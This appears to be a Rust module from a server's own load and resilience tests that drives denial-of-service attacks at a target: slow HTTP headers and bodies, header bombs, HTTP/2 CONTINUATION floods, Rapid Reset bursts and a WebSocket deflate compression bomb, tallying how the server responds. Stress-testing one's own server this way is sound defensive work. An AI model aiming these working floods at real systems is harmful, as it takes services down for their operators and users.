//! Attacks, each as fast as one task can, for as long as it is let.

use std::time::Duration;

use anyhow::{Result, ensure};
use bytes::BytesMut;
use client::Request;
use client::websocket::{self, End};
use codec::websocket::Opcode;
use codec::websocket::deflate::Compressor;
use codec::websocket::encode::{WebSocketFrameHead, client_frame};
use futures_util::stream::{FuturesUnordered, StreamExt};
use socket2::SockRef;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::caller;
use crate::neighbour::{AttackKind, AttackTarget, OutcomeCounts};

/// The pause between two bytes of a slow client.
const DRIP: Duration = Duration::from_millis(100);

/// What a bomb may have sent before it gives up: more than any limit.
const BOMB: usize = 16 << 20;

/// The kinds of frame and their marks (RFC 9113 §6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET / http://localhost` in HPACK's static table (RFC 7541, appendix A).
const GET: &[u8] = b"\x82\x86\x84\x41\x09localhost";

/// Attacks with as many clients at once as the target says; each starts anew when the server is done with it.
pub(crate) async fn go_on(kind: AttackKind, target: &AttackTarget, tally: &mut OutcomeCounts) {
    let bomb = if kind == AttackKind::CompressionBombs { compression_bomb() } else { Vec::new() };
    let request = caller::request(kind);
    let attack = || once(kind, target, &bomb, request.as_ref());
    let mut running: FuturesUnordered<_> = (0..target.count).map(|_| attack()).collect();
    while let Some(outcome) = running.next().await {
        tally.count(outcome.unwrap_or_else(|error| format!("{}", error.root_cause())));
        running.push(attack());
    }
}

/// One client's attack, and what the server did about it.
async fn once(
    kind: AttackKind,
    target: &AttackTarget,
    bomb: &[u8],
    request: Option<&Request>,
) -> Result<String> {
    if let Some(request) = request {
        return caller::ask(target, request).await;
    }
    match kind {
        AttackKind::SlowHeads => {
            slow(target, "GET /healthz HTTP/1.1\r\nhost: localhost\r\nx-slow: ").await
        }
        AttackKind::SlowBodies => {
            let head = "POST /v1/responses HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n";
            slow(target, head).await
        }
        AttackKind::HeaderBombs => {
            let fields = format!("x-bomb: {}\r\n", "a".repeat(1000)).repeat(64);
            flood(target, b"GET /healthz HTTP/1.1\r\nhost: localhost\r\n", |_| {
                fields.clone().into_bytes()
            })
            .await
        }
        AttackKind::Continuations => {
            let start = [&preface()[..], &frame(HEADERS, END_STREAM, 1, GET)].concat();
            // A field of one letter each, which is not indexed: ten bytes of list for six on the wire, and more for its frame.
            let more = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b").repeat(1000);
            flood(target, &start, |_| more.clone()).await
        }
        AttackKind::RapidReset => {
            let burst = |round: u32| {
                let streams = (100 * round..100 * (round + 1)).map(|stream| 2 * stream + 1);
                let pair = |stream| {
                    [
                        frame(HEADERS, END_STREAM | END_HEADERS, stream, GET),
                        frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]),
                    ]
                };
                streams.flat_map(pair).collect::<Vec<_>>().concat()
            };
            flood(target, &preface(), burst).await
        }
        AttackKind::CompressionBombs => explode(target, bomb).await,
        _ => loop {
            // As much as a thousandth of a second of work, again and again.
            std::hint::black_box(
                (0..1_000_000_u64).fold(0, |sum, number| sum ^ std::hint::black_box(number)),
            );
            tokio::task::yield_now().await;
        },
    }
}

async fn connect(target: &AttackTarget) -> Result<TcpStream> {
    let stream = TcpStream::connect(target.address).await?;
    stream.set_nodelay(true)?;
    // A close is a reset, which leaves no port in `TIME_WAIT`: the number of ports is limited.
    SockRef::from(&stream).set_linger(Some(Duration::ZERO))?;
    Ok(stream)
}

/// A byte, a pause, a byte, until the server has something to say.
async fn slow(target: &AttackTarget, start: &str) -> Result<String> {
    let mut stream = connect(target).await?;
    stream.write_all(start.as_bytes()).await?;
    let mut heard = Vec::new();
    loop {
        tokio::select! {
            read = stream.read_buf(&mut heard) => {
                if read.is_err() || heard.is_empty() || heard.len() >= b"HTTP/1.1 200".len() {
                    return Ok(said(read, &heard));
                }
            }
            () = tokio::time::sleep(DRIP) => stream.write_all(b"a").await?,
        }
    }
}

/// Everything at once, until the server has had enough.
async fn flood(
    target: &AttackTarget,
    start: &[u8],
    more: impl Fn(u32) -> Vec<u8>,
) -> Result<String> {
    let (mut reader, mut writer) = connect(target).await?.into_split();
    let writing = async {
        writer.write_all(start).await?;
        let mut sent = start.len();
        for round in 0.. {
            if sent >= BOMB {
                break;
            }
            let bytes = more(round);
            writer.write_all(&bytes).await?;
            sent += bytes.len();
        }
        Ok::<_, std::io::Error>(())
    };
    let reading = async {
        let mut heard = Vec::new();
        loop {
            let read = reader.read_buf(&mut heard).await;
            let is_refused = heard.starts_with(b"HTTP/1.1 ") || goaway(&heard).is_some();
            if is_refused || !matches!(read, Ok(1..)) {
                return said(read, &heard);
            }
        }
    };
    tokio::pin!(reading);
    tokio::select! {
        outcome = &mut reading => Ok(outcome),
        wrote = writing => match wrote {
            Ok(()) => Ok("all taken".to_owned()),
            // What the server said before it closed may still be there.
            Err(_) => Ok(reading.await),
        },
    }
}

/// A small message that becomes a large one.
async fn explode(target: &AttackTarget, bomb: &[u8]) -> Result<String> {
    let offer = [("sec-websocket-extensions", "permessage-deflate")];
    let connected = websocket::connect(target.address, "/v1/responses", &offer).await?;
    ensure!(connected.headers.get("sec-websocket-extensions").is_some(), "no compression");
    let mut socket = connected.socket;
    SockRef::from(&*socket.connection().stream()).set_linger(Some(Duration::ZERO))?;
    // It may be refused before it is whole.
    drop(socket.send_raw(bomb).await);
    Ok(match socket.collect().await?.1 {
        End::Closed { code, .. } => format!("close {}", code.unwrap_or_default()),
        End::Cut(None) => "FIN".to_owned(),
        End::Cut(Some(kind)) => format!("{kind:?}"),
    })
}

/// Zeros, 64 MiB of them in 64 KiB: twice the limit of a message.
fn compression_bomb() -> Vec<u8> {
    let mut block = Compressor::new(1).compress(&vec![0; 1 << 20]).unwrap_or_default();
    block.extend_from_slice(&[0, 0, 0xFF, 0xFF]);
    let mut bytes = BytesMut::new();
    client_frame(
        &mut bytes,
        WebSocketFrameHead { fin: true, rsv1: true, opcode: Opcode::Text },
        [1, 2, 3, 4],
        &block.repeat(64),
    );
    bytes.to_vec()
}

/// What the server said, in a word.
fn said(read: std::io::Result<usize>, heard: &[u8]) -> String {
    if let Some(status) = heard.strip_prefix(b"HTTP/1.1 ") {
        return String::from_utf8_lossy(&status[..status.len().min(3)]).into_owned();
    }
    if let Some(code) = goaway(heard) {
        return format!("GOAWAY {code}");
    }
    read.map_or_else(|error| format!("{:?}", error.kind()), |_| "FIN".to_owned())
}

fn preface() -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(SETTINGS, 0, 0, &[])[..]].concat()
}

/// A frame (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The code of the GOAWAY among these frames.
fn goaway(mut frames: &[u8]) -> Option<u32> {
    while let [a, b, c, kind, _, _, _, _, _, rest @ ..] = frames {
        let length = usize::try_from(u32::from_be_bytes([0, *a, *b, *c])).ok()?;
        let payload = rest.get(..length)?;
        if *kind == GOAWAY {
            return Some(u32::from_be_bytes(payload.get(4..8)?.try_into().ok()?));
        }
        frames = &rest[length..];
    }
    None
}
